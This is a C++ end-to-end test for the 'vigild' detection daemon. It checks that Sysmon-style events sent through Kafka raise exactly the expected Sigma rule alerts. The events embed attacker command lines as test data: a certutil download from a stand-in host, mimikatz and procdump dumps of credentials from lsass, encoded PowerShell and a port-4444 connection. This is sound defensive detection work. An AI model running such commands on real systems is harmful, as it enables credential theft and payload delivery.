@@ -1,0 +1,216 @@
+// End to end: the vigild binary against a Kafka protocol peer, fed by an independent
+// client (kcat), checked through its HTTP API only.
+
+#include <gtest/gtest.h>
+#include <rapidjson/document.h>
+#include <signal.h>
+
+#include <filesystem>
+#include <fstream>
+#include <random>
+#include <set>
+#include <thread>
+
+#include "support/http_client.h"
+#include "support/subprocess.h"
+
+namespace vigil {
+namespace {
+
+namespace fs = std::filesystem;
+using namespace std::chrono_literals;
+using AlertKey = std::pair<std::string, std::string>;  // (rule id, event test_id)
+
+constexpr char kSysmon[] = R"("Channel":"Microsoft-Windows-Sysmon/Operational")";
+
+std::string process_event(const std::string& id, const std::string& parent, const std::string& image, const std::string& cmd) {
+  return std::string(R"({"@timestamp":"2026-11-24T17:00:00.000Z","Hostname":"WS-0001",)") + kSysmon +
+         R"(,"EventID":1,"test_id":")" + id + R"(","ParentImage":")" + parent + R"(","Image":")" + image +
+         R"(","CommandLine":")" + cmd + R"("})";
+}
+std::string event(const std::string& id, int event_id, const std::string& fields) {
+  return std::string(R"({"@timestamp":"2026-11-24T17:00:01.000Z","Hostname":"WS-0002",)") + kSysmon + R"(,"EventID":)" +
+         std::to_string(event_id) + R"(,"test_id":")" + id + R"(",)" + fields + "}";
+}
+
+// Events crafted for the default rule pack, and the alerts they must give.
+std::vector<std::string> crafted_events() {
+  const std::string ps = R"(C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe)";
+  const std::string cmd = R"(C:\\Windows\\System32\\cmd.exe)";
+  return {
+      process_event("t1", cmd, ps, "powershell -nop -enc SQBFAFgA"),
+      process_event("t2", cmd, R"(C:\\Windows\\System32\\certutil.exe)", "certutil -urlcache -f http://x/a.exe a.exe"),
+      process_event("t3", cmd, R"(C:\\Users\\Public\\m.exe)", "m.exe sekurlsa::logonpasswords"),
+      process_event("t4", cmd, R"(C:\\Tools\\procdump.exe)", "procdump -ma lsass.exe out.dmp"),
+      process_event("t5", R"(C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE)", ps, "powershell -enc AAAA"),
+      process_event("t6", cmd, R"(C:\\Windows\\System32\\rundll32.exe)", "rundll32.exe javascript:\\\"..\\\\mshtml\\\""),
+      process_event("t7", cmd, R"(C:\\Windows\\System32\\whoami.exe)", "whoami /priv"),
+      process_event("t8", R"(C:\\Program Files\\SCCM\\SCCMAgent.exe)", R"(C:\\Windows\\System32\\whoami.exe)", "whoami /priv"),
+      event("t9", 3, R"("Image":")" + ps + R"(","DestinationPort":4444,"Initiated":"true")"),
+      event("t10", 13, R"("TargetObject":"HKU\\S-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x","Details":"C:\\Users\\Public\\x.exe")"),
+      event("t11", 22, R"("QueryName":"abc.ngrok.io")"),
+      event("t12", 11, R"("Image":"C:\\Windows\\System32\\wscript.exe","TargetFilename":"C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.vbs")"),
+      event("t13", 11, R"("Image":"C:\\Windows\\System32\\msiexec.exe","TargetFilename":"C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.vbs")"),
+      process_event("t14", cmd, R"(C:\\Windows\\System32\\ipconfig.exe)", "ipconfig /all"),
+      event("t15", 3, R"("Image":")" + ps + R"(","CommandLine":"powershell -enc AAAA")"),  // right fields, wrong logsource
+      "{broken json",
+      "[\"not an object\"]",
+  };
+}
+
+std::set<AlertKey> expected_alerts() {
+  return {{"b0b45200-2144-447e-a69d-ebce804a3864", "t1"}, {"600b4d6f-49fb-4e4b-a78d-6352d47d7b7f", "t2"},
+          {"4bdfa4d6-11cc-4460-9aee-0cf814659c62", "t3"}, {"1772ac8f-4450-424c-b772-d9e5ce5ba72c", "t4"},
+          {"0f6d99b9-cc13-478f-a882-437e9195ff00", "t5"}, {"b0b45200-2144-447e-a69d-ebce804a3864", "t5"},
+          {"ea9efc16-26ac-40c6-a5c7-b8665849e4f5", "t6"}, {"1fc0eb53-c7e0-4dbf-8eb6-dddb8f1a094e", "t7"},
+          {"3ca036c5-5e3d-407e-8582-6a5876402de0", "t9"}, {"4abecf1f-1bdd-428d-b470-698fb17dc78b", "t10"},
+          {"4186ec2e-19f6-4b70-b390-bc1e81e5a620", "t11"}, {"58f89590-ca2e-461c-9ae4-ca62c8d54e27", "t12"}};
+}
+
+class VigildTest : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    dir_ = fs::temp_directory_path() / ("vigil-e2e-" + std::to_string(std::random_device{}()));
+    fs::create_directories(dir_);
+  }
+  void TearDown() override { fs::remove_all(dir_); }
+
+  // librdkafka's mock coordinator delays a join to a group that had members by the
+  // session timeout (45 s by default), where a real broker starts an emptied group afresh;
+  // a short session timeout keeps restarts quick. This also exercises --config.
+  fs::path config_file() {
+    const fs::path p = dir_ / "vigild.yml";
+    if (!fs::exists(p)) std::ofstream(p) << "kafka:\n  properties:\n    session.timeout.ms: \"6000\"\n    heartbeat.interval.ms: \"500\"\n";
+    return p;
+  }
+  // Starts vigild and returns its API port (0 on failure).
+  uint16_t start(std::unique_ptr<test::Subprocess>& proc, std::vector<std::string> extra) {
+    std::vector<std::string> argv = {VIGILD_PATH, "--data-dir", (dir_ / "data").string(), "--listen", "127.0.0.1:0",
+                                     "--rules", VIGIL_SOURCE_DIR "/rules/sigma", "--mapping",
+                                     VIGIL_SOURCE_DIR "/rules/mappings/vigil-sensor.yml", "--batch-ms", "20", "--config", config_file().string()};
+    argv.insert(argv.end(), extra.begin(), extra.end());
+    proc = std::make_unique<test::Subprocess>(argv, (dir_ / ("vigild-" + std::to_string(++runs_) + ".log")).string());
+    auto line = proc->wait_for_line("  api: http://127.0.0.1:", 30s);
+    if (!line) return 0;
+    return static_cast<uint16_t>(std::stoi(line->substr(line->rfind(':') + 1)));
+  }
+  std::string log(int run) {
+    std::ifstream in(dir_ / ("vigild-" + std::to_string(run) + ".log"));
+    return std::string(std::istreambuf_iterator<char>(in), {});
+  }
+  // All alerts, following cursors.
+  static std::vector<AlertKey> alerts(uint16_t port) {
+    std::vector<AlertKey> out;
+    std::string target = "/api/v1/alerts?limit=1000";
+    for (int page = 0; page < 100; ++page) {
+      auto r = test::http_get("127.0.0.1", port, target);
+      if (r.status != 200) return out;
+      rapidjson::Document d;
+      d.Parse(r.body.c_str());
+      if (d.HasParseError()) return out;
+      for (const auto& a : d["alerts"].GetArray()) {
+        std::string id = a.HasMember("event") && a["event"].HasMember("test_id") ? a["event"]["test_id"].GetString() : "";
+        out.emplace_back(a["rule"]["id"].GetString(), id);
+      }
+      if (d["next_cursor"].IsNull()) break;
+      target = std::string("/api/v1/alerts?limit=1000&cursor=") + d["next_cursor"].GetString();
+    }
+    return out;
+  }
+  static bool wait_for(const std::function<bool()>& done, std::chrono::milliseconds timeout) {
+    const auto deadline = std::chrono::steady_clock::now() + timeout;
+    while (std::chrono::steady_clock::now() < deadline) {
+      if (done()) return true;
+      std::this_thread::sleep_for(100ms);
+    }
+    return done();
+  }
+  void kcat_produce(const std::string& brokers, const std::vector<std::string>& lines) {
+    const fs::path file = dir_ / "events.jsonl";
+    std::ofstream out(file);
+    for (const auto& l : lines) out << l << "\n";
+    out.close();
+    std::string output;
+    const int rc = test::run_command(std::string(KCAT_PATH) + " -P -b " + brokers + " -t vigil.events -l " + file.string() + " 2>&1", &output);
+    ASSERT_EQ(rc, 0) << output;
+  }
+
+  fs::path dir_;
+  int runs_ = 0;
+};
+
+TEST_F(VigildTest, ExactAlertsFromAnIndependentProducerAcrossARestart) {
+  // The broker lives in its own process (vigil dev kafka), as a real one would, so that
+  // vigild can be stopped and started while it keeps the data.
+  test::Subprocess broker({VIGIL_CLI_PATH, "dev", "kafka", "--partitions", "4", "--topic", "vigil.events"});
+  const auto bootstrap = broker.read_line(10s);
+  ASSERT_TRUE(bootstrap && bootstrap->rfind("127.0.0.1:", 0) == 0) << bootstrap.value_or("(nothing)");
+  const std::string brokers = *bootstrap;
+
+  std::unique_ptr<test::Subprocess> vigild;
+  uint16_t port = start(vigild, {"--kafka-brokers", brokers});
+  ASSERT_NE(port, 0) << log(1);
+  ASSERT_TRUE(wait_for([&] { return test::http_get("127.0.0.1", port, "/readyz").status == 200; }, 30s)) << log(1);
+
+  kcat_produce(brokers, crafted_events());
+  const auto expected = expected_alerts();
+  ASSERT_TRUE(wait_for([&] { return alerts(port).size() >= expected.size(); }, 30s)) << log(1);
+  // Let anything extra (a duplicate, a false positive) arrive before judging.
+  std::this_thread::sleep_for(1s);
+  auto got = alerts(port);
+  EXPECT_EQ(got.size(), expected.size());
+  EXPECT_EQ(std::set<AlertKey>(got.begin(), got.end()), expected);
+
+  auto metrics = test::http_get("127.0.0.1", port, "/metrics").body;
+  EXPECT_NE(metrics.find("vigil_events_consumed_total 17"), std::string::npos) << metrics;
+  EXPECT_NE(metrics.find(R"(vigil_events_invalid_total{reason="malformed_json"} 1)"), std::string::npos) << metrics;
+  EXPECT_NE(metrics.find(R"(vigil_events_invalid_total{reason="not_an_object"} 1)"), std::string::npos) << metrics;
+
+  vigild->signal(SIGTERM);
+  EXPECT_EQ(vigild->wait(30s), 0) << log(1);
+
+  // Restart on the same data: nothing is read twice, and new events are detected once.
+  port = start(vigild, {"--kafka-brokers", brokers});
+  ASSERT_NE(port, 0) << log(2);
+  ASSERT_TRUE(wait_for([&] { return test::http_get("127.0.0.1", port, "/readyz").status == 200; }, 30s)) << log(2);
+  kcat_produce(brokers, {process_event("t16", "C:\\\\x.exe", "C:\\\\Windows\\\\System32\\\\whoami.exe", "whoami /all")});
+  auto with_new = expected;
+  with_new.insert({"1fc0eb53-c7e0-4dbf-8eb6-dddb8f1a094e", "t16"});
+  ASSERT_TRUE(wait_for([&] { return alerts(port).size() >= with_new.size(); }, 30s)) << log(2);
+  std::this_thread::sleep_for(1s);
+  got = alerts(port);
+  EXPECT_EQ(got.size(), with_new.size());
+  EXPECT_EQ(std::set<AlertKey>(got.begin(), got.end()), with_new);
+  vigild->signal(SIGTERM);
+  EXPECT_EQ(vigild->wait(30s), 0) << log(2);
+}
+
+TEST_F(VigildTest, EmbeddedModeShowsSimulatedAlertsWithinThirtySeconds) {
+  std::unique_ptr<test::Subprocess> vigild;
+  const uint16_t port = start(vigild, {"--simulator-rate", "1000"});
+  ASSERT_NE(port, 0) << log(1);
+  ASSERT_TRUE(wait_for([&] { return !alerts(port).empty(); }, 30s)) << log(1);
+  std::set<std::string> pack;
+  for (const auto& [rule, id] : expected_alerts()) pack.insert(rule);
+  for (const auto& [rule, id] : alerts(port)) EXPECT_TRUE(pack.count(rule)) << rule;
+  EXPECT_EQ(test::http_get("127.0.0.1", port, "/readyz").status, 200);
+  vigild->signal(SIGINT);
+  EXPECT_EQ(vigild->wait(30s), 0) << log(1);
+}
+
+TEST_F(VigildTest, RefusesBadConfigurationWithAClearMessage) {
+  std::string out;
+  EXPECT_NE(test::run_command(std::string(VIGILD_PATH) + " --listen nonsense 2>&1", &out), 0);
+  EXPECT_NE(out.find("must be host:port"), std::string::npos) << out;
+  const fs::path cfg = dir_ / "bad.yml";
+  std::ofstream(cfg) << "kafka:\n  brokers: x\nfield21: 1\n";
+  out.clear();
+  EXPECT_EQ(test::run_command(std::string(VIGILD_PATH) + " --config " + cfg.string() + " 2>&1", &out), 2);
+  EXPECT_NE(out.find("unknown key 'field21'"), std::string::npos) << out;
+  out.clear();
+  EXPECT_NE(test::run_command(std::string(VIGILD_PATH) + " --rules /nonexistent --data-dir " + (dir_ / "d").string() + " 2>&1", &out), 0);
+  EXPECT_NE(out.find("no rule compiled"), std::string::npos) << out;
+}
+
+}  // namespace
+}  // namespace vigil
